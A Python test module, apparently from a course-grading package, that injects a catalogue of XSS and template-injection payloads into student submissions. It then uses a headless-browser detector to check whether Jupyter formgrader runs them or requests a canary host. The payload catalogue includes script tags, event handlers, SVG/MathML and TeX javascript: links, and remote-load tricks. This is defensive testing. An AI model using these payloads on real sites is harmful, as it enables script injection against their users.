"""Textos que intentan ejecutar algo en el navegador de quien los lee, y con qué se descubre.

En cada uno, `{js}` avisa al detector y `{url}` es la dirección de un canario. Se ponen donde un
alumno puede escribir: respuestas, salidas, errores, nombres y archivos.
"""

import contextlib
import mimetypes
import os
import socket
import subprocess
import sys
import time
from collections import defaultdict
from importlib.resources import files
from typing import NamedTuple
from urllib.error import URLError
from urllib.parse import urlsplit
from urllib.request import urlopen

from vinogpt.grading.score import Result

CANARY = "canario.invalid"
PRODUCT = "999831"  # 987 * 1013, si alguien evalúa una plantilla
BREAK = '<img src=x onerror="{js}">'
TEXTS = {
    "html": {  # Etiquetas y manejadores
        "script": "<script>{js}</script>",
        "script-src": '<script src="{url}"></script>',
        "script-upper": "<SCRIPT\n>{js}</SCRIPT\n>",
        "img": BREAK,
        "img-quotes": '<img """><script>{js}</script>">',
        "img-slash": "<img/src=x/onerror={js}>",
        "img-unclosed": "<img src=x onerror={js} //",
        "details": '<details open ontoggle="{js}">x</details>',
        "video": '<video><source onerror="{js}"></video>',
        "audio": '<audio src=x onerror="{js}"></audio>',
        "autofocus": '<input autofocus onfocus="{js}">',
        "hover": '<b onmouseover="{js}">x</b>',
        "animation": '<style>@keyframes k{{}}</style><b style="animation:k 1s" '
        'onanimationstart="{js}">x</b>',
        "custom-element": '<x-y onpointerenter="{js}" onmouseover="{js}" tabindex=0>x</x-y>',
        "template": f"<div><template shadowrootmode=open>{BREAK}</template></div>",
    },
    "break": {  # Romper la etiqueta en la que cae
        "comment-break": f"<!-->{BREAK}-->",
        "textarea-break": f"</textarea></title></style></script>{BREAK}",
        "pre-break": f"</pre></code></div>{BREAK}",
        "attribute-break": '" onmouseover="{js}" autofocus onfocus="{js}" x="',
        "script-break": "</script><script>{js}</script>",
        "string-break": '";{js};"',
        "noscript": '<noscript><p title="</noscript><img src=x onerror={js}>">',
    },
    "svg": {  # SVG y MathML
        "svg": '<svg onload="{js}"></svg>',
        "svg-script": "<svg><script>{js}</script></svg>",
        "svg-animate": '<svg><animate onbegin="{js}" attributeName=x dur=1s></animate></svg>',
        "svg-link": '<svg><a xlink:href="javascript:{js}"><text y=20>x</text></a></svg>',
        "svg-foreign": f"<svg><foreignObject>{BREAK}</foreignObject></svg>",
        "mathml": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x '
        'onerror={js}&gt;">',
        "mathml-link": '<math><mtext href="javascript:{js}">x</mtext></math>',
    },
    "link": {  # Enlaces, formularios y marcos
        "link": '<a href="javascript:{js}">x</a>',
        "link-entities": '<a href="java&#115;cript:{js}">x</a>',
        "link-markdown": "[x](javascript:{js})",
        "link-reference": "[x][y]\n\n[y]: javascript:{js}",
        "link-auto": "<javascript:{js}>",
        "link-data": "[x](data:text/html,<script>opener.{js}</script>)",
        "link-same-origin": "[x](/formgrader/manage_students/%22%3B{js}%3B%22)",
        "form": '<form action="javascript:{js}"><button>x</button></form>',
        "frame-srcdoc": '<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
        "frame-javascript": '<iframe src="javascript:parent.{js}"></iframe>',
        "frame-remote": '<iframe src="{url}"></iframe>',
        "object": '<object data="javascript:{js}"></object><object data="{url}"></object>',
        "embed": '<embed src="{url}">',
        "refresh": '<meta http-equiv=refresh content="0;url={url}">',
        "base": '<base href="{url}/"><img src=x>',
    },
    "request": {  # Peticiones a otro sitio
        "image-remote": "![x]({url})",
        "style-import": "<style>@import url({url});</style>",
        "style-attribute": '<p style="background:url({url})">x</p>',
        "stylesheet": '<link rel=stylesheet href="{url}">',
        "prefetch": '<link rel=preload as=image href="{url}">',
    },
    "markdown": {  # Markdown
        "mermaid": f"```mermaid\n</pre>{BREAK}\n```",
        "fence-language": f"```{BREAK}\nx\n```",
        "image-alt": '![x" onerror="{js}](x)',
        "link-title": '[x](y "\\" onmouseover=\\"{js}")',
        "table": f"| a |\n|---|\n| {BREAK} |",
        "code-escape": f"`x` \\`{BREAK}\\`",
        "nested-list": f"- a\n  - > {BREAK}",
    },
    "template": {  # Plantillas
        "jinja": "{{{{ 987 * 1013 }}}}{{% print(987 * 1013) %}}",
        "underscore": "<%= 987 * 1013 %><% {js} %>${{987 * 1013}}",
    },
    "tex": {  # Fórmulas
        "tex-href": "$\\href{{javascript:{js}}}{{x}}$",
        "tex-style": "$\\style{{background:url({url})}}{{x}}$",
        "tex-token": '$\\mmlToken{{mtext}}[href="javascript:{js}"]{{x}}$',
        "tex-bbox": "$\\bbox[background:url({url})]{{x}}$",
        "tex-break": f"$x</span>{BREAK}$ $$\\text{{{{{BREAK}}}}}$$",
        "tex-macro": "$\\def\\x{{\\href}}\\x{{javascript:{js}}}{{x}}$",
        "tex-environment": f"\\begin{{{{a}}}}{BREAK}\\end{{{{a}}}}",
    },
    "text": {  # Terminal y caracteres
        "ansi": f"\x1b[31m{BREAK}\x1b[0m \x1b]8;;javascript:{{js}}\x1b\\x\x1b]8;;\x1b\\",
        "null": '<scr\x00ipt>{js}</scr\x00ipt><img\x0bsrc=x\x0conerror="{js}">',
        "bidi": f"\u202e{BREAK}\u202c\ufeff",
        "fullwidth": "＜script＞{js}＜/script＞",
    },
}


class Payload(NamedTuple):
    """Un texto con su clase y su nombre, que es lo que avisa si se ejecuta."""

    kind: str
    name: str
    text: str


PAYLOADS = [
    Payload(kind, name, text.format(js=f"pwned('{name}')", url=f"http://{CANARY}/{name}"))
    for kind, texts in TEXTS.items()
    for name, text in texts.items()
]


def everywhere(graded, student, text):
    """Una entrega con el texto en todo lo que un alumno puede escribir; `graded` la construye."""
    wrong = [Result(name, 0.0, 1.0, text) for name in ("double_check", "double_hidden")]
    answers = {"double": f'"""{text}"""', "why": text, "free": f"# {text}"}
    known = {"name": f"{text}, {text}", "late": text, "notes": (text,), "problem": text}
    return graded(student, wrong, answers, **known)


# --- Detector --------------------------------------------------------------------------------

# Lo que haría quien lee: pasar por encima, enfocar y pulsar todo lo que hay en una respuesta.
POKE = """() => {
  const inside = "main, .rendered_html, .output_area, .input_area, #main-table, .breadcrumb";
  for (const node of document.querySelectorAll(inside)) {
    for (const item of [node, ...node.querySelectorAll("*")]) {
      for (const kind of ["pointerenter", "mouseover", "focus"])
        item.dispatchEvent(new MouseEvent(kind, {bubbles: true}));
      if (node.matches("main, .rendered_html, .output_area, .input_area")
          && item.matches("a:not([href^='#']), button:not(.btn), mtext, .MathJax *"))
        item.dispatchEvent(new MouseEvent("click", {bubbles: true, cancelable: true}));
    }
  }
}"""
LOADER = """window.MathJax = {"HTML-CSS": {availableFonts: [], webFont: "STIX-Web"}};
document.write('<script src="%s"><\\/script>')"""
TYPESET = "() => !window.MathJax || (MathJax.isReady && !MathJax.Hub.queue.pending)"


class Detector:
    """Pestaña que apunta qué se ejecuta y qué se pide a otro sitio: {nombre: {cómo}}."""

    def __init__(self, browser, mathjax="TeX-AMS-MML_HTMLorMML-full"):
        self.executed, self.mathjax = defaultdict(set), mathjax
        self.context = browser.new_context()
        self.context.expose_binding("pwned", lambda _, name: self.executed[name].add("script"))
        self.context.route("http*://*.*/**", self.outside)
        self.page = self.context.new_page()
        self.page.on(
            "dialog", lambda dialog: (self.executed["dialog"].add("dialog"), dialog.dismiss())
        )

    def outside(self, route):
        """Sirve MathJax, que formgrader pide a cdnjs, y apunta lo que llega al canario."""
        url = urlsplit(route.request.url)
        if url.hostname == "127.0.0.1":
            return route.continue_()
        if url.hostname == CANARY:
            self.executed[url.path.strip("/").split("/")[0]].add("request")
        _, _, path = url.path.partition("/mathjax/2.7.7/")
        file = files("jupyter_server_mathjax") / "static" / path
        if path == "latest.js":
            source = route.request.url.split("latest.js")[0] + f"MathJax.js?config={self.mathjax}"
            route.fulfill(body=LOADER % source, content_type="text/javascript")
        elif path and file.is_file():
            kind = mimetypes.guess_type(path)[0] or "application/octet-stream"
            route.fulfill(body=file.read_bytes(), content_type=kind)
        else:
            route.abort()

    def visit(self, url):
        """Abre una página y hace con ella lo que haría quien la lee; devuelve su HTML."""
        self.page.goto(url, wait_until="load")
        self.page.wait_for_function(TYPESET, timeout=30_000)
        html = self.page.content()
        if PRODUCT in html:
            self.executed["jinja"].add("template")
        with contextlib.suppress(Exception):  # la página puede irse a otra al pulsar
            self.page.evaluate(POKE)
        self.page.wait_for_timeout(200)
        return html

    def close(self):
        self.context.close()


# --- Formgrader ------------------------------------------------------------------------------


@contextlib.contextmanager
def formgrader(course, folder):
    """Dirección de formgrader para un curso; `folder` recoge lo que escribe Jupyter."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    known = {f"JUPYTER_{name}_DIR": str(folder) for name in ("CONFIG", "DATA", "RUNTIME")}
    options = [f"--port={port}", "--ServerApp.port_retries=0", "--IdentityProvider.token=llave"]
    command = [sys.executable, "-m", "jupyter_server", "--no-browser", "--allow-root", *options]
    with open(folder / "jupyter.log", "w", encoding="utf-8") as log:
        env = {**os.environ, **known, "HOME": str(folder)}
        server = subprocess.Popen(command, cwd=course, env=env, stdout=log, stderr=log)
        try:
            wait_for(f"http://127.0.0.1:{port}/api", server)
            yield f"http://127.0.0.1:{port}/formgrader", "llave"
        finally:
            server.terminate()
            server.wait()


def wait_for(url, server, seconds=120):
    """Espera a que responda el servidor."""
    end = time.monotonic() + seconds
    while server.poll() is None and time.monotonic() < end:
        with contextlib.suppress(URLError):
            return urlopen(url, timeout=5).close()
        time.sleep(0.2)
    raise RuntimeError("Jupyter no se ha puesto en marcha")
